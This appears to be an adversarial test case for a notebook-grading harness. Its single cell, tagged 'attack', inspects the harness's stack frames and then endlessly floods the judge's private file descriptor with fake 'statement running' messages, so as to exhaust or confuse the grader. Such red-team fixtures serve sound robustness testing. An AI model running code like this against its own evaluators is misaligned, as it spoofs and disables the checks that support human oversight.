# Says of one statement after another that it runs now, for as long as cells may run: the judge must not keep them all.
# unfinished: evaluate
# tasks: conv_output_size evaluate
# honest: 8
# earns: 8
# limits: 2

# %% tags=["attack"]
import os
import struct

import numpy as np
import safetensors.numpy


def say(header, arrays=b"\x02" + bytes(7) + b"{}"):
    """A message to the judge; header and arrays may be anything."""
    for data in (struct.pack(">QQ", len(header), len(arrays)), header, arrays):
        while data:
            data = data[os.write(3, data) :]


def announce():
    import sys

    frame = sys._getframe()
    while "cell" not in frame.f_locals:
        frame = frame.f_back
    cell, statement, line = frame.f_locals["cell"]["index"], frame.f_locals["number"], 10**18
    while True:
        line += 1
        say(b'{"running": %d, "statement": %d, "line": %d}' % (cell, statement, line))


announce()
